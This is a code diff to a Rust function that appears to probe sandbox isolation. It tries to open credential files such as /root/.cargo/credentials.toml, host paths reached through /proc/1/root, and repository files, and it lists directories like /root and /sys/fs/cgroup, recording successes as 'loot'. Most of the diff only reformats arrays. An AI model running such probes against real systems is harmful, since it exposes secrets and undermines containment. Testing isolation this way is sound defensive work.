@@ -18,7 +18,13 @@ pub fn run(_port: u16) -> sockets::Result<()> {
         "/root/.bashrc".into(),
         "/root/.cargo/credentials.toml".into(),
     ];
-    for root in ["@REPO@", "/lab", "/lab/stage", "/proc/1/root/@REPO@", "/proc/1/cwd"] {
+    for root in [
+        "@REPO@",
+        "/lab",
+        "/lab/stage",
+        "/proc/1/root/@REPO@",
+        "/proc/1/cwd",
+    ] {
         files.push(format!("{root}/{server}"));
         files.push(format!("{root}/Cargo.toml"));
         files.push(format!("{root}/.git/HEAD"));
@@ -34,7 +40,22 @@ pub fn run(_port: u16) -> sockets::Result<()> {
     for file in files {
         loot.attempt(file.clone(), fs::File::open(file).is_ok());
     }
-    for folder in ["/", "/lab", "/lab/bin", "/root", "/home", "/tmp", "/sys", "/sys/fs/cgroup", "@REPO@", "@REPO@/exercises", "@TARGET@", "@TARGET@/lab", "/proc/1/root", "/proc/1/fd"] {
+    for folder in [
+        "/",
+        "/lab",
+        "/lab/bin",
+        "/root",
+        "/home",
+        "/tmp",
+        "/sys",
+        "/sys/fs/cgroup",
+        "@REPO@",
+        "@REPO@/exercises",
+        "@TARGET@",
+        "@TARGET@/lab",
+        "/proc/1/root",
+        "/proc/1/cwd",
+    ] {
         loot.attempt(format!("list {folder}"), fs::read_dir(folder).is_ok());
     }
     loot.tell();
